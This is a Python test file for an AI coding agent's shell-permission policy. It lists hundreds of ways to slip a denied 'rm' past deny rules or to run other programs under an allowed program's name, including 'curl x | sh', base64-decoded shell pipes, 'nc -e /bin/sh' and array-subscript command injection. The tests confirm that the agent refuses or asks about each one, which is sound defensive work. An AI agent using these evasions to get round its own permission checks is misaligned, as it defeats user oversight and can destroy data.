"""Commands that want past the rules.

Some are those that a deny pattern is to catch, others are to be run in an allowed program's name.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from kernels import Notebook
from scripted import ScriptedServer

from copilot_magics.errors import BadInput
from copilot_magics.permissions import Policy, understand

Start = Callable[..., Notebook]

SEEN = [
    "find . -ok rm {} \\;", "fd -x rm", 'eval "r""m x"', "eval 'r'\"m x\"", "command -p rm x",
    'r""m x', '"r"m x', "'r'm x", "r\\m x", '$"rm" x', "busybox sh -c 'rm x'",
    "busybox sh -c 'r\"\"m x'", "toybox rm x", "timeout -k 1 5 rm x", "nice rm x",
    "ionice -c2 rm x", "sudo -u x -- rm x", "doas rm x", 'nohup r""m x',
    "cat <<E | bash\nrm x\nE", "tee >(rm x)", "GIT_PAGER=rm git log",
    "GIT_SSH_COMMAND='rm x' git fetch", "PAGER='rm x' git -p log", "MANPAGER='rm x' man ls",
    "EDITOR='rm x' git commit", "function f { rm x; }; f", "coproc N { rm x; }",
    "echo $(( $(rm x) ))", "echo $((a[$(rm x)]))", "exec -a ls rm x", "trap 'r\"\"m x' EXIT",
    "{rm,x}", "/???/rm x", "rm\tx", "\trm\tx", "rm #comment", "env -S rm\\ x", "env -i rm x",
    "env -u A rm x", "/usr/bin/env rm x", "env --split-string='rm x'",
    "ssh -o ProxyCommand='rm x' h", "ssh -oProxyCommand=rm h", "docker run -v /:/x img rm x",
    "docker exec c rm x", "podman exec c rm x", "kubectl exec p -- rm x", "make SHELL=/bin/rm x",
    "sed '1e rm x' f", "sed 's/a/rm x/e' f",
    "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=rm", "tar -I rm -cf x y",
    "vim -c '!rm x'", "ex -sc '!rm x' f", "xargs -I{} rm {}", "xargs -a f rm", "setsid rm x",
    "stdbuf -oL rm x", "flock f -c 'rm x'", "flock f rm x", "script -c 'rm x'",
    "script -qc 'r\"\"m x' /dev/null", "su -c 'rm x'", "su root -c 'r\"\"m x'",
    "runuser -u x -- rm x", "echo 'rm x' | at now", "echo '* * * * * rm x' | crontab -",
    "rsync -e 'rm x' a b:", "rsync --rsync-path='r\"\"m' a b:", "scp -S rm a b:",
    "scp -o ProxyCommand='r\"\"m x' a b:", "man -P 'rm x' ls", "gdb -batch -ex 'shell rm x'",
    "expect -c 'spawn rm x'", "screen -dm rm x", "tmux new-session rm x",
    "tmux new-session 'r\"\"m x'", "sqlite3 x '.shell r\"\"m x'", "psql -c '\\! rm x'",
    "mysql -e '\\! rm x'", "ln -sf /bin/rm x", "cp /bin/rm x; ./x y",
    "cp /bin/rm /usr/bin/zz; zz x", "ln -s /bin/rm zz; PATH=$PATH:. zz x",
    "ln -s /bin/rm /usr/local/bin/zz && zz x", "hash -p /bin/rm ls; ls x", "builtin eval 'rm x'",
    "builtin command rm x", "ld.so /bin/rm x", "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
    "/lib/ld-linux.so.2 /bin/rm x", "chroot / rm x", "unshare rm x", "nsenter -t 1 rm x",
    "systemd-run rm x", "capsh -- -c 'rm x'", "setpriv rm x", "prlimit rm x", "taskset 1 rm x",
    "chrt 1 rm x", "numactl rm x", "catchsegv rm x", "ltrace rm x", "valgrind rm x",
    "perf stat rm x", "rlwrap rm x", "unbuffer rm x", "ionice rm x", "cgexec -g x rm x",
    "dbus-launch rm x", "xterm -e rm x", "xterm -e 'r\"\"m x'", "gnome-terminal -- rm x",
    "konsole -e rm x", "xvfb-run rm x", "git rebase -x 'rm x' HEAD~1",
    "git submodule foreach 'rm x'", "git submodule foreach 'r\"\"m x'",
    "git filter-branch --tree-filter 'rm x'", "git filter-branch --tree-filter 'r\"\"m x'",
    "git -c core.pager='r\"\"m x' log", "git -c core.sshCommand='r\"\"m x' fetch",
    "git config core.pager 'rm x'", "git config alias.x '!r\"\"m x'", "git grep -O'r\"\"m' x",
    "git archive --exec='r\"\"m' --remote=h x", "git fetch --upload-pack='r\"\"m' x",
    "git ls-remote --upload-pack='r\"\"m' x", "git clone -c core.fsmonitor='r\"\"m x' a",
    "npx rm x", "yarn rm", "gcc -wrapper rm,x f.c", "zip x y -T -TT 'rm x'",
    "zip -T --unzip-command='r\"\"m x' a b", "split --filter='rm x' f",
    "split --filter='r\"\"m x' f", "sort --compress-program=rm f",
    "apt-get -o APT::Update::Pre-Invoke::='r\"\"m x' update",
    "apt -o Dpkg::Pre-Invoke::='r\"\"m x' install y", "ip netns exec a rm x",
    "tcpdump -z rm -r x", "wget --use-askpass=./rm x", "pdflatex -shell-escape '\\write18{rm x}'",
    "gnuplot -e 'system(\"rm x\")'", "dc -e '!rm x'", "bunx rm", "pwsh -c 'rm x'", "cmd /c rm x",
    "fish -c 'rm x'", "zsh -c 'rm x'", "csh -c 'rm x'", "nu -c 'rm x'", "dash -c 'r\"\"m x'",
    "rbash -c 'rm x'", "bash -O extglob -c 'rm x'", "bash +O extglob -c 'r\"\"m x'",
    "bash -o posix -c 'rm x'", "bash --norc -c 'rm x'", "sh -ec 'rm x'", 'sh -c "rm x" --',
    "sh -c 'echo $0 $1' rm x", "sh -c '\"$@\"' _ rm x", "[ -v 'a[$(rm x)]' ]",
    "test -v 'a[$(rm x)]'", "[[ -v a[$(rm x)] ]]", "printf -v 'a[$(rm x)]' y",
    "read 'a[$(rm x)]'", "unset 'a[$(rm x)]'", "declare 'a[$(rm x)]=1'",
    "declare -i a='b[$(rm x)]'", "let 'a[$(rm x)]=1'", "echo ${a[$(rm x)]}", "echo ${a:$(rm x)}",
    "PS4='$(rm x)'; set -x; ls", "PROMPT_COMMAND='rm x'",
    "BASH_FUNC_ls%%='() { rm x; }' bash -c ls",
    "env 'BASH_FUNC_ls%%=() { r\"\"m x; }' bash -c ls", "mapfile -C 'rm x' -c 1 a",
    "readarray -C 'r\"\"m' -c 1 a", "complete -C 'rm x' y", "compgen -C 'rm x'",
    "compgen -C 'r\"\"m x'", "bind -x '\"a\":rm x'", "fc -e rm", "history -s 'rm x'",
    'set -- rm x; "$@"', "set -- rm x; $1 x", "echo rm; $_ x", "~/rm x", "~+/rm x",
    "cd /bin; ./rm x", 'cd /bin && ./r""m x', "pushd /bin; ./rm x", "(cd /bin; ./rm x)",
    "/bin/../bin/rm x", "//bin//rm x", "/bin/./rm x", "/proc/self/root/bin/rm x",
    "/usr/bin/coreutils --coreutils-prog=rm x", "coreutils --coreutils-prog=rm x",
    "printf 'rm x' | sh", "case x in x) rm x;; esac", "if rm x; then :; fi",
    "while rm x; do break; done", "until rm x; do :; done", "for ((;;)); do rm x; done",
    "select a in b; do rm x; done", "for i in rm; do $i x; done", "a=rm; $a x",
    'a=(rm x); "${a[@]}"', "declare -n a=b; b=rm; $a x", "read a <<< rm; $a x", "${0%x}rm",
    "`echo rm` x", "<(:) rm", ">f rm x", "2>&1 rm x", "<f rm x", "&>f rm x", "{fd}>f rm x",
    "rm</dev/null x", "rm>f x", "rm&x", "rm|x", "x|rm", "x|&rm", "x&&rm", "x||rm", "((rm x))",
    "{rm x;}", "[ x ] && rm x", "ls # rm x", "ls '\\n' ; rm x", 'echo "`rm x`"', "echo '`rm x`'",
    'echo "\\$(rm x)"', 'echo "$(echo "$(rm x)")"', "cat <<'E'\n$(rm x)\nE",
    "cat <<-E\n\t$(rm x)\n\tE", "cat <<E\nE\nrm x", "cat <<E\n E\nrm x\nE\nrm x",
    'cat << "E"; rm x\nE', "cat <<E <<F\nE\n$(rm x)\nF",
    "let 'a[$(r\"\"m x)]=1'", "wait -p 'a[$(r\"\"m x)]'", "a=(1); unset a[\\$\\(rm\\ x\\)]",
    "a=(1); unset a['$'\\(rm\\ x\\)]", "a=(1); unset 'a[$''(rm x)]'", "unset a[\\`rm\\ x\\`]",
    "true & wait -n -p a[\\$\\(rm\\ x\\)]", "getopts a a[\\$\\(rm\\ x\\)] -a",
    "RANDOM=a[\\$\\(rm\\ x\\)]", "OPTIND=a['$'\\(rm\\ x\\)]", "export a[\\$\\(rm\\ x\\)]=1",
    "readonly a[\\$\\(rm\\ x\\)]=1", "for ((a[\\$\\(rm\\ x\\)];;)); do :; done",
    "exec {a[\\$\\(rm\\ x\\)]}>f", "command unset 'a[$''(rm x)]'", "x=(['$'\\(rm\\ x\\)]=1)",
]  # fmt: skip
"""Ways to run rm in which it can be seen: refused."""

HIDDEN = [
    "python -c 'import shutil; shutil.rmtree(\"x\")'", "python3 -c \"import os;os.unlink('x')\"",
    "python3 x.py", "python3 - <<E\nimport os\nE", "git -p log", "PAGER='r\"\"m x' man ls",
    'bash <<<"r""m x"', "r{m,} x", "/bin/r? x", "/bin/r[m] x", "r\\\\nm x", ". ./x", "source x",
    "make -f x", "awk 'BEGIN{system(\"r\" \"m x\")}'", "sed -n '1e r\\x6d x' f",
    "vim -c ':!r\\m x'", "ed -s x", "at now", "crontab f", "sftp -S /bin/x h",
    "nc -e /bin/sh h 1", "socat EXEC:'r\"\"m x' -", "less x", "more x", "perl -e 'unlink \"x\"'",
    "perl -e 'exec \"r\".\"m\"'", "ruby -e 'x'", "node -e 'x'", "php -r 'unlink(\"x\");'",
    "lua -e 'os.remove(\"x\")'", "enable -f x y", "git log --format=x --output=y", "git daemon",
    "git cvsserver", "git gui", "git instaweb", "git send-email", "git mergetool", "git p4",
    "git maintenance run", "npm run x", "pip install x", "cargo run", "go run x", "go generate",
    "cmake -P x", "ninja", "gcc -B. x.c", "gcc @f", "cc x.c -o /bin/y", "ld --x", "ar x",
    "7z a x", "sort -S1 --compress-prog=./x f", "dpkg -i x", "apt-get install x", "yum install x",
    "dnf x", "rpm -i x", "snap run x", "flatpak run x", "pip3 install .", "tcpdump -z ./x",
    "tshark x", "nmap --script=x", "wget --use-askpass=./x y", "curl -o /tmp/x url", "mutt -e x",
    "mail -s x", "logrotate x", "openssl engine x", "openssl req -engine ./x", "ffmpeg x",
    "convert x 'msl:y'", "pdflatex --shell-escape x", "gnuplot x", "octave --eval x", "R -e x",
    "Rscript -e x", "julia -e x", "yq x", "dc -e '!r'", "m4 x", "emacs --batch --eval x",
    "nano x", "vi x", "vimdiff a b", "view x", "rview x", "tclsh x", "wish x", "guile -e x",
    "ghc -e x", "ocaml x", "swift x", "java -jar x", "kotlin x", "cscript x", "mono x",
    "dotnet run", "deno run x", "bun x", "tsx x", "ts-node x", "bash --rcfile x -i", "bash -i",
    "bash -s", "sh -c 'r$1 x' _ m", "sh -c '$(echo r)m x'", "echo ${a@P}",
    "PS4='$(r\"\"m x)' bash -xc ls",
    "BASH_ENV=x bash -c ls", "ENV=x sh", "LD_PRELOAD=./x ls", "LD_AUDIT=./x ls", "IFS=x; rxm",
    "IFS=, ; a=r,m; $a x", "fc -s", '"$@"', "$_ x", "perl x", "echo cm0geA== | base64 -d | bash",
    "base64 -d <<< cm0geA== | sh", "xxd -r -p x | sh", "curl x | sh", "wget -qO- x | bash",
    "cat x | sudo sh", "rev <<< 'x mr' | sh", "a=r b=m; $a$b x", "${a:-rm} x",
    *(
        # The variable k holds the text of a substitution, which the line does not show.
        f"k=$(curl h); {line}"
        for line in (
            "echo ${x:k}", "echo ${x:0:k}", "echo ${x:(k)}", "a=(1); unset a[k]", "unset 'a[k]'",
            "let k", "declare -i z=$k", "declare -i z; z=$k", "declare -i z=k", "typeset -i z=k",
            "local -i z=k", "readonly -i z=k", "declare -n r=$k; echo $r", "declare -gn r=$k",
            "read 'a[k]'", "printf -v 'a[k]' x", "printf '-va[k]' x", "test -v 'a[k]'",
            "declare 'a[k]=1'", 'declare "a[$k]=1"', 'declare "$k=1"', 'wait -n -p "$k"',
            "wait -n -p 'a[k]'", "getopts a 'a[k]'", "for ((i=k;i<1;)); do :; done", "a[k]=1",
            "a=([k]=1)", "a=([0]=1 [k]=2)", "declare a=([k]=1)", "RANDOM=$k", "RANDOM=k",
            "OPTIND=$k", "HISTCMD=k", "SRANDOM=k", "read RANDOM", "for RANDOM in $k; do :; done",
            "[[ k -eq 1 ]]", "((k))", "echo $[k]", "echo $((k))", "command unset 'a[k]'",
            "builtin let k", "unset \"$k\"",
        )
    ),
    "sudo -u git mytool", "sudo -nu git mytool", "sudo --user git mytool", "env -C cat mytool",
    "env -u cat mytool x", "timeout -s cat mytool", "nice -n cat mytool", "exec -a ls mytool",
    "flock cat mytool", "perf stat mytool", "direnv exec . mytool", "bash -c mytool",
    "sh -ec mytool", "bash --rcfile ls -c mytool",
    "csh -c mytool", "mpirun -host ls mytool", "gosu a mytool", "tini -- mytool", "eval mytool",
    "$(printf '\\162\\155') x", "$(<f) x", "ls; # a\\nrm x",
]  # fmt: skip
"""Ways to run something of which the line does not say what it is: never done unasked."""

IN_THE_NAME_OF = {
    "git:*": [
        "git -p log", "git --exec-path=/tmp log", "git\tstatus;rm x", "git status\\\n;rm x",
        "GIT_PAGER=rm git log", "GIT_SSH_COMMAND=rm git fetch", "git --paginate log",
        "git --config-env core.pager=X log", "git grep --open-files-in-pager=rm x",
        "git ls-remote --upload-pack=rm x", "git archive --output=x HEAD", "git archive -o x HEAD",
        "git archive --exec=rm --remote=h x", "git am --exec=rm", "git clone --config=a=b x",
        "git clone --template=x y", "git init --template=x", "git daemon", "git instaweb",
        "git mergetool", "git send-email --sendmail-cmd=rm", "git maintenance run", "git p4",
        "git difftool --extcmd=rm", "git submodule update", "git -c core.fsmonitor=rm status",
        "git status $(rm x)", "git log --format=%(trailers) > x", "git status <(rm x)",
        "GIT status",
        "git status #\nrm x", "git status;\trm x", "git status|tee x", "git status &>x",
    ],
    "find:*": ["find . -execdir rm {} ;", "find . -okdir rm", "find . -fls x", "find . -fprint0 x"],
    "fd:*": ["fd -x rm", "fd --exec rm", "fd --exec-batch=rm", "fd -HX rm"],
    "tar:*": [
        "tar cIf rm out in", "tar xIf rm a", "tar -cIrm -f a b", "tar --use-comp=rm -cf a b",
        "tar --checkpoint-action exec=rm", "tar --rsh-command=rm -xf h:x", "tar -F rm -xf a",
    ],
    "sort:*": ["sort -o /etc/x y", "sort --compress-prog rm x", "sort -ro x y"],
    "install:*": ["install --strip-program=rm -s a b", "install --strip-prog rm a b"],
    "gh:*": ["gh rm x", "gh extension install x", "gh alias set x '!rm'", "gh codespace ssh"],
    "rg:*": ["rg --pre=rm x", "rg --hostname-bin rm x"],
    "diff3:*": ["diff3 --diff-program=./e a b c", "diff3 --diff-p ./e a b c", "diff3 --di=./e a b"],
    "rsync:*": ["rsync -avMx a b", "rsync --remote-option=x a b", "rsync --daemon --config=x"],
    "man:*": ["man -Prm ls", "man -C x ls", "man --pager='rm x' ls"],
    "zip:*": ["zip -TT 'rm x' a b", "zip a b -T -TTrm"],
    "sqlite3:*": [
        "sqlite3 x.db '.shell touch p'", "sqlite3 x.db '.system rm'", "sqlite3 x.db ' .sh rm'",
        "sqlite3 x.db 'select 1;\n.shell rm'", "sqlite3 x.db \"select load_extension('e')\"",
        "sqlite3 x.db 'select edit(1)'", "sqlite3 -cmd '.shell rm' x.db 'select 1'", "sqlite3 x.db",
        "sqlite3 --init x x.db 'select 1'", "sqlite3 -separator , x.db",
        "echo .shell rm | sqlite3 x",
    ],
    "gcc:*": [
        "gcc -wrapper x y.c", "gcc -fplugin=./e y.c", "gcc -B. y.c", "gcc -B./e y.c", "gcc @f",
        "gcc -specs=x y.c", "gcc --specs=x y.c", "gcc -Wl,-plugin,./e y.c", "gcc -Xlinker x y.c",
    ],
    "gh repo:*": ["gh repo clone a -- -c core.fsmonitor=x", "gh repo clone a -- --config=a.b=x"],
    "gh config:*": ["gh config set pager 'rm x'"],
    "hg:*": ["hg --config 'alias.x=!rm x'", "hg --conf=a.b=x log", "hg -R x log", "hg view",
             "hg clone -e 'rm x' a", "hg log --cwd x", "hg clone --ssh rm a", "hg bisect -c rm"],
    "svn:*": ["svn diff --diff-cmd rm", "svn up --config-option=a:b:c=rm",
              "svn ci --editor-cmd rm"],
    "fzf:*": ["fzf --preview 'rm x'", "fzf --bind=enter:execute(rm)", "fzf --with-shell=rm"],
    "apt-get:*": ["apt-get -o APT::Update::Pre-Invoke::=x update", "apt-get -yo a=b update",
                  "apt-get update --option a=b", "apt-get -c f update", "apt-get -oa=b update"],
    "pandoc:*": ["pandoc --lua-filter=x a", "pandoc -F ./x a", "pandoc --pdf-engine=./x a"],
    "latexmk:*": ["latexmk -pdflatex=x a", "latexmk -e x a", "latexmk -r x a"],
    "openssl:*": ["openssl engine x", "openssl req -engine x", "openssl req -provider x"],
    "bat:*": ["bat --pager 'rm x' f", "bat --pager=rm f"],
    "make:*": ["make SHELL=/bin/rm x", "make CC=rm", "make --eval='x:;rm'", "make -f -",
               "make -sf -",
               "make -f- x", "make --file=- x", "make -f /dev/stdin", "make MAKEFLAGS:=x",
               "make A!=rm"],
    "cmake:*": ["cmake -E rm x", "cmake -P x", "cmake -DCMAKE_C_COMPILER=./e .", "cmake -C x ."],
    "npm:*": ["npm exec rm", "npm x rm", "npm --script-shell=rm test", "npm config set a b",
              "npm -c rm exec", "npm --prefix x exec -- rm", "npm pkg set scripts.x=rm",
              "npm init x"],
    "npx:*": ["npx rm x", "npx -y rm x", "npx -c 'rm x'", "npx --call=rm"],
    "yarn:*": ["yarn exec rm", "yarn dlx rm", "yarn node -e x", "yarn workspace x exec rm"],
    "uv:*": ["uv run rm x", "uv -q run rm x", "uv --directory x run rm x", "uv tool run rm",
             "uv pip install -p ./e x", "uv run python -c x", "uv x rm"],
    "uv run pytest:*": ["uv run pytest --pdb", "uv run rm x", "uv run"],
    "uv run python:*": ["uv run python -c x", "uv run python", "uv run python -"],
    "uvx:*": ["uvx rm x", "uvx --from x rm"],
    "poetry:*": ["poetry run rm x", "poetry -C x run rm", "poetry config a b", "poetry self add x"],
    "pip:*": ["pip --python ./e list", "pip config --editor rm edit", "pip --py=./e list"],
    "go:*": ["go build -toolexec rm x", "go test -exec=rm x", "go vet --vettool=rm",
             "go env -w A=b",
             "go build -ldflags=-extld=./e", "go tool x", "go generate"],
    "cargo:*": ["cargo --config a.b=x build", "cargo +x build", "cargo -Z x build"],
    "pytest:*": ["pytest --pdb", "pytest --pdbcls=a:b", "pytest --trace"],
    "jupyter:*": ["jupyter lab --ServerApp.browser=rm", "jupyter run", "jupyter console"],
    "python:*": ["python -m timeit x", "python -mpdb x", "python -i x.py", "python -ui x.py",
                 "python -m code", "python -m asyncio", "python -Imtimeit x"],
    "perl:*": ["perl -MPOSIX=x f", "perl '-Mx;system(1)' f", "perl -d:x f", "perl -wMx f"],
    "java:*": ["java -javaagent:x -jar y", "java -XX:OnError=rm x", "java @f",
               "java -agentpath:x y"],
    "docker:*": ["docker compose up", "docker attach x", "docker container run x",
                 "docker exec a b"],
    "kubectl:*": ["kubectl --kubeconfig=x get pods", "kubectl edit x", "kubectl exec p -- rm"],
    "mytool:*": [
        "mytool -c 'rm x'", "mytool -e x", "mytool -x rm", "mytool -oA=rm x", "mytool '!rm'",
        "mytool '|rm'", "mytool '+!rm'", "mytool @f", "mytool --exec rm", "mytool --exec=rm",
        "mytool --some-command=rm", "mytool --pager rm", "mytool --git.paging.pager=rm",
        "mytool exec",
        "mytool --on-complete=rm", "mytool --pre-invoke rm", "mytool -wrapper rm",
        "mytool --config x",
        "mytool --rsh=rm", "mytool 'a; rm x'", "mytool 'a | rm'", "mytool shell", "mytool -ac rm",
        "mytool --plugin=x", "mytool --editor-cmd rm", "mytool --shell rm", "mytool --browser=rm",
    ],
    "curl:*": ["curl -o x y", "curl -sSLO y", "curl -K x", "curl --config=x", "curl --output x y"],
    "python3:*": [
        "python3 -c x", "python3 -mx -cy", "python3", "python3 -", "python3 -i",
        "python3 /dev/fd/3", "cat x | python3", "python3 <<E\nx\nE", "python3 <(rm x)",
        "python3 -Ixc rm",
    ],
    "ls:*": [
        "ls; rm x", "ls|rm", "ls&rm x", "ls\nrm x", "ls $(rm x)", "ls `rm x`", "ls >x", "ls>|x",
        "ls <>x", "ls 3>x", "ls {a,$(rm)}", "A=1 ls", "ls() { rm x; }; ls", "/tmp/ls", "./ls",
        "lsx",
        "ls ${x:=$(rm)}", "ls $((a[$(rm)]))", "ls <<< $(rm)", "if ls; then rm x; fi", "! ls",
        "(ls)",
        "ls\rrm x", "ls\u00a0x", "ls\x00;rm x", "\u2009ls", "exec ls", "coproc ls", "time ls",
    ],
}  # fmt: skip

PLAIN = [
    "ls -la src", "git status && git log --oneline | head -5", "grep -rn rm src | wc -l",
    "cat a > b",
    "cp a b; mv b c", "tar czf a.tgz src", "find . -name '*.py' -exec grep -n x {} +", "sort -u a",
    "timeout 5 git commit -m 'a message'", "env A=1 ls", "bash -c 'ls; git diff'", "gh pr list",
    "curl -s https://example.org | jq .", "for f in a b; do echo $f; done",
    "diff <(ls a) <(ls b)", "export A=$HOME/x", "declare -a a=(1 2)", "unset A", "local x=$1",
    "echo ${x:-y} ${x: -1} ${x:0:7} ${x:3} ${x%:*}", "echo \\$HOME", "grep 'x$' f", "a=(x y)",
    "readonly A=1", "wait", "sudo cat x", "nohup ls &", "rsync -av a b", "rmdir x",
]  # fmt: skip


EVERYDAY = {
    "git:*": [
        "git status", "git log --oneline -5", "git diff HEAD~1", "git add -A",
        "git push origin main",
        "git commit -m 'a message: with (signs)'", "git commit -am x", "git checkout -b new",
    ],
    "pytest:*": ["pytest", "pytest -x -q tests", "pytest -k 'a and b' --cov=x",
                 "pytest a.py::test_b"],
    "ls:*": ["ls -la", "ls -la src"],
    "python:*": ["python script.py", "python a.py --epochs 3", "python -m pytest -q", "python -V"],
    "python3:*": ["python3 -m venv .venv", "python3 -m pip list", "python3 a.py in.csv"],
    "pip:*": ["pip list", "pip install -r requirements.txt", "pip install -e .", "pip show numpy"],
    "grep:*": ["grep -rn x src", "grep -E 'a|b$' f", "grep -c x f"],
    "rg:*": ["rg -n x src"],
    "cat:*": ["cat a b", "cat a | cat -n"],
    "ruff:*": ["ruff check .", "ruff check --fix src", "ruff format --check ."],
    "mypy:*": ["mypy", "mypy src --strict", "mypy -p pkg"],
    "black:*": ["black --check .", "black src"],
    "npm:*": ["npm test", "npm ci", "npm install lodash", "npm run build -- --watch"],
    "npx tsc:*": ["npx tsc --noEmit"],
    "uv run pytest:*": ["uv run pytest -q", "uv run pytest -k rm"],
    "uv:*": ["uv sync", "uv pip install numpy", "uv add numpy"],
    "make:*": ["make", "make -j8 test", "make -C sub all"],
    "cargo:*": ["cargo build --release", "cargo test", "cargo clippy -- -D warnings"],
    "go:*": ["go build ./...", "go test -run X -v ./..."],
    "gcc:*": ["gcc -Wall -O2 -o x x.c -lm"],
    "cmake:*": ["cmake -S . -B build -DCMAKE_BUILD_TYPE=Release", "cmake --build build"],
    "find:*": ["find . -name '*.py' -type f"],
    "docker:*": ["docker ps -a", "docker images", "docker logs web"],
    "kubectl:*": ["kubectl get pods -n web"],
    "gh:*": ["gh pr list", "gh pr view 3 --json title", "gh repo clone a/b"],
    "sqlite3:*": ["sqlite3 x.db 'select 1'", "sqlite3 -header -csv x.db 'select a from b'"],
    "apt-get:*": ["apt-get update", "apt-get install -y x"],
    "terraform:*": ["terraform plan", "terraform validate"],
    "mytool:*": ["mytool", "mytool build --verbose", "mytool -v in.csv out.csv",
                 "mytool --dry-run a=b",
                 "mytool --progress --output out", "mytool 'two words'"],
}  # fmt: skip


def verdict(text: str, mode: str, *, allow: list[str] | None = None, deny: str = "") -> str:
    ask = understand({"kind": "shell", "fullCommandText": text}, "/")
    return Policy(mode, allow or [], [deny] if deny else [], "/").decide(ask).verdict


@pytest.mark.parametrize("text", SEEN, ids=ascii)
def test_a_denied_command_is_refused_however_it_is_run(text: str) -> None:
    for deny in ("shell(rm)", "shell(rm:*)"):
        assert verdict(text, "allow-all", deny=deny) == "refuse"
        assert verdict(text, "ask", allow=["shell"], deny=deny) == "refuse"


@pytest.mark.parametrize("text", HIDDEN, ids=ascii)
def test_what_cannot_be_told_is_not_done_unasked(text: str) -> None:
    assert verdict(text, "allow-all", deny="shell(rm)") == "ask"
    assert verdict(text, "read-only", allow=["shell"], deny="shell(rm)") == "refuse"
    # What the user wrote himself, word for word, is his word.
    if "\n" not in text:
        assert verdict(text, "ask", allow=[f"shell({text})"], deny="shell(rm)") == "allow"


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_known_to_run_nothing_else_is_left_alone(text: str) -> None:
    assert verdict(text, "allow-all", deny="shell(rm)") == "allow"


@pytest.mark.parametrize(
    ("pattern", "text"), [(p, text) for p, texts in IN_THE_NAME_OF.items() for text in texts]
)
def test_an_allowed_program_runs_no_other(pattern: str, text: str) -> None:
    assert verdict(text, "ask", allow=[f"shell({pattern})"]) == "ask"
    assert verdict(text, "deny", allow=[f"shell({pattern})"]) == "refuse"


@pytest.mark.parametrize(
    ("pattern", "text"), [(p, text) for p, texts in EVERYDAY.items() for text in texts]
)
def test_everyday_commands_need_no_second_word(pattern: str, text: str) -> None:
    assert verdict(text, "ask", allow=[f"shell({pattern})"]) == "allow"


@pytest.mark.parametrize("program", ["less", "more", "psql", "mysql", "gnuplot", "nano", "mail"])
def test_what_runs_any_program_at_a_word_is_allowed_by_no_name(program: str) -> None:
    with pytest.raises(BadInput, match="any program"):
        verdict("ls", "ask", allow=[f"shell({program}:*)"])
    assert verdict(f"{program} '+!touch p' x", "ask", allow=[f"shell({program})"]) == "ask"


def test_a_program_that_the_user_names_is_known_to_him() -> None:
    for text in ("mytool x", "timeout 5 mytool x", "ls; mytool"):
        assert verdict(text, "allow-all", deny="shell(rm)") == "ask"
        allow = ["shell(mytool:*)", "shell"]
        assert verdict(text, "ask", allow=allow, deny="shell(rm)") == "allow"
    assert verdict("mytool rm", "ask", allow=["shell(mytool:*)"], deny="shell(rm)") == "allow"
    assert verdict("/bin/rm x; mytool", "ask", allow=["shell"], deny="shell(rm)") == "refuse"


def run_all(kernel: Notebook, texts: list[str]) -> str:
    """Have the agent run commands, all in one turn, with nobody watching."""
    calls = (json.dumps({"command": text, "description": "do it"}) for text in texts)
    # In a prompt an @ mentions something.
    prompt = "\n".join(f"tool bash {call}" for call in calls).replace("@", r"\@")
    cell = kernel.run(f"%%copilot\n{prompt}", allow_stdin=False)
    assert cell.status == "ok", cell.text
    return cell.text


@pytest.mark.parametrize(
    "share", [slice(None, None, 9), pytest.param(slice(None), marks=pytest.mark.slow)]
)
@pytest.mark.timeout(300)
def test_the_runtime_removes_nothing(
    notebook: Start, provider: ScriptedServer, tmp_path: Path, share: slice
) -> None:
    work = tmp_path / "work"
    kernel = notebook(work)
    (work / "x").write_text("keep")
    kernel.run(
        "%load_ext copilot_magics\n%copilot_session wary --permissions allow-all --deny 'shell(rm)'"
    )
    texts = [text for text in (*SEEN, *HIDDEN) if text.isprintable()][share]
    for start in range(0, len(texts), 50):
        some = texts[start : start + 50]
        assert run_all(kernel, some).count("Refused (") == len(some)
    assert [path.name for path in work.iterdir()] == ["x"]
    assert (work / "x").read_text() == "keep"
    # Without the pattern the first of them does what it says.
    kernel.run("%copilot_session free --permissions allow-all")
    run_all(kernel, ["find . -name x -exec rm {} +"])
    assert list(work.iterdir()) == []
